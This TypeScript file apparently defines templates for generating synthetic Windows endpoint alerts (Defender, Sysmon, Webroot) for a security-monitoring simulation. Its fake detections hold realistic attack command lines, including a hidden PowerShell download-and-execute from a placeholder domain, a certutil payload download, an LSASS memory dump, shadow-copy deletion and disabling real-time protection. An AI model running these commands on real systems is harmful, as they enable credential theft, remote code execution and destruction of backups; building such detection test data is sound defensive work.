import type { AlertTemplate } from '../types.ts';

/**
 * Detections raised on Windows hosts. Titles, command lines and paths imitate what
 * the named products report; every hash, address and domain comes from the seed's own pool.
 */

const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';
/** Families a commodity malware detection names. */
const COMMODITY = [
  'Emotet',
  'QakBot',
  'AgentTesla',
  'AsyncRAT',
  'RedLine Stealer',
  'IcedID',
  'Raccoon Stealer',
];

export const WINDOWS_TEMPLATES: AlertTemplate[] = [
  {
    title: 'Suspicious PowerShell execution',
    type: 'execution',
    sources: ['Microsoft Defender', 'Sysmon'],
    host: 'windows',
    priority: 'high',
    weight: 8,
    fields: (c) => ({
      ...c.process(
        PS,
        `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${c.badDomain()}/a.ps1')"`,
        'C:\\Windows\\explorer.exe',
      ),
      remote_url: `http://${c.badDomain()}/a.ps1`,
      mitre_technique: 'T1059.001',
    }),
  },
  {
    title: 'Encoded PowerShell command line',
    type: 'execution',
    sources: ['Sysmon'],
    host: 'windows',
    priority: 'medium',
    weight: 6,
    fields: (c) => ({
      ...c.process(
        PS,
        `powershell.exe -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA${c.rng.hex(24)}`,
        CMD,
      ),
      event_id: 1,
      mitre_technique: 'T1027',
    }),
  },
  {
    title: 'Ransomware behaviour detected',
    type: 'ransomware',
    sources: ['Microsoft Defender', 'Acronis EDR'],
    host: 'windows',
    priority: 'critical',
    weight: 1,
    fields: (c) => ({
      ...c.process(
        `C:\\Users\\${c.person.sam}\\AppData\\Local\\Temp\\svchost.exe`,
        'svchost.exe --encrypt --all',
        CMD,
      ),
      ...c.fileFields(`C:\\Users\\${c.person.sam}\\AppData\\Local\\Temp\\`, 1, ['LockBit', 'BlackCat']),
      files_encrypted: c.rng.int(40, 9000),
      ransom_note: 'README_RESTORE_FILES.txt',
      mitre_technique: 'T1486',
    }),
  },
  {
    title: 'Shadow copies deleted with vssadmin',
    type: 'ransomware',
    sources: ['Acronis EDR', 'Microsoft Defender'],
    host: 'windows',
    priority: 'critical',
    weight: 1,
    fields: (c) => ({
      ...c.process('C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet', CMD),
      mitre_technique: 'T1490',
    }),
  },
  {
    title: 'Credential dumping from LSASS memory',
    type: 'credential_access',
    sources: ['Microsoft Defender', 'Sysmon'],
    host: 'windows',
    priority: 'critical',
    weight: 2,
    fields: (c) => ({
      ...c.process(
        'C:\\Windows\\System32\\rundll32.exe',
        `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${c.processId()} C:\\Windows\\Temp\\l.dmp full`,
        CMD,
      ),
      target_process: 'C:\\Windows\\System32\\lsass.exe',
      mitre_technique: 'T1003.001',
    }),
  },
  {
    title: 'Mimikatz hacktool detected',
    type: 'credential_access',
    sources: ['Microsoft Defender', 'Webroot'],
    host: 'windows',
    priority: 'critical',
    weight: 1,
    fields: (c) => ({
      ...c.fileFields('C:\\ProgramData\\', 1, ['Mimikatz']),
      detection_name: 'HackTool:Win32/Mimikatz',
      action: 'quarantined',
    }),
  },
  {
    title: (c) => `Malware quarantined on ${c.hostName}`,
    type: 'malware',
    sources: ['Microsoft Defender', 'Webroot'],
    host: 'windows',
    priority: 'medium',
    weight: 9,
    fields: (c) => {
      const file = c.fileFields(`C:\\Users\\${c.person.sam}\\Downloads\\`, 0.8, COMMODITY);
      const family = typeof file.malware_family === 'string' ? file.malware_family : null;
      // Defender names a detection after the family; an unknown file gets its machine-learning verdict.
      const detection = family
        ? `Trojan:Win32/${family.replace(/[^A-Za-z]/g, '')}`
        : 'Trojan:Win32/Wacatac.B!ml';
      return { ...file, user: c.account, action: 'quarantined', detection_name: detection };
    },
  },
  {
    title: 'Potentially unwanted application blocked',
    type: 'malware',
    sources: ['Webroot', 'Microsoft Defender'],
    host: 'workstation',
    priority: 'low',
    weight: 8,
    fields: (c) => ({
      ...c.fileFields(`C:\\Users\\${c.person.sam}\\Downloads\\`, 0.1, ['XMRig']),
      user: c.account,
      detection_name: c.rng.pick(['PUA:Win32/Presenoker', 'PUA:Win32/CoinMiner', 'PUA:Win32/Softcnapp']),
      action: 'blocked',
    }),
  },
  {
    title: 'Office application spawned a command shell',
    type: 'execution',
    sources: ['Microsoft Defender'],
    host: 'workstation',
    priority: 'high',
    weight: 4,
    fields: (c) => ({
      ...c.process(
        CMD,
        `cmd.exe /c certutil -urlcache -f http://${c.badDomain()}/inv.dll %TEMP%\\inv.dll`,
        'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      ),
      mitre_technique: 'T1204.002',
    }),
  },
  {
    title: 'Suspicious scheduled task created',
    type: 'persistence',
    sources: ['Sysmon', 'Microsoft Defender'],
    host: 'windows',
    priority: 'medium',
    weight: 5,
    fields: (c) => ({
      ...c.process(
        'C:\\Windows\\System32\\schtasks.exe',
        `schtasks.exe /create /sc minute /mo 30 /tn "OneDrive Update ${c.rng.int(100, 999)}" /tr "${PS} -w hidden -f C:\\ProgramData\\u.ps1"`,
        CMD,
      ),
      mitre_technique: 'T1053.005',
    }),
  },
  {
    title: 'Lateral movement with PsExec',
    type: 'lateral_movement',
    sources: ['Microsoft Defender', 'Sysmon'],
    host: 'server',
    priority: 'high',
    weight: 2,
    fields: (c) => ({
      ...c.process('C:\\Windows\\PSEXESVC.exe', 'PSEXESVC.exe', 'C:\\Windows\\System32\\services.exe'),
      source_host: c.rng.pick(c.customer.agents).hostName,
      mitre_technique: 'T1570',
    }),
  },
  {
    title: 'Unsigned driver loaded',
    type: 'defense_evasion',
    sources: ['Sysmon'],
    host: 'windows',
    priority: 'medium',
    weight: 3,
    fields: (c) => ({
      ...c.fileFields('C:\\Windows\\System32\\drivers\\', 0.3, ['BlackCat']),
      event_id: 6,
      signed: false,
    }),
  },
  {
    title: 'Cobalt Strike beacon detected',
    type: 'command_and_control',
    sources: ['Microsoft Defender'],
    host: 'windows',
    priority: 'critical',
    weight: 1,
    fields: (c) => ({
      ...c.process(
        'C:\\Windows\\System32\\rundll32.exe',
        'rundll32.exe',
        'C:\\Windows\\System32\\svchost.exe',
      ),
      destination_ip: c.badIp(),
      destination_port: 443,
      mitre_technique: 'T1071.001',
    }),
  },
  {
    title: 'Endpoint protection disabled by user',
    type: 'defense_evasion',
    sources: ['Microsoft Defender'],
    host: 'windows',
    priority: 'high',
    weight: 3,
    fields: (c) => ({
      ...c.process(PS, 'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true', CMD),
      mitre_technique: 'T1562.001',
    }),
  },
  {
    title: 'Antivirus definitions out of date',
    type: 'policy',
    sources: ['Webroot', 'Microsoft Defender'],
    host: 'windows',
    priority: 'low',
    weight: 6,
    fields: (c) => ({ device_id: c.host?.agentId, definitions_age_days: c.rng.int(8, 60) }),
  },
];
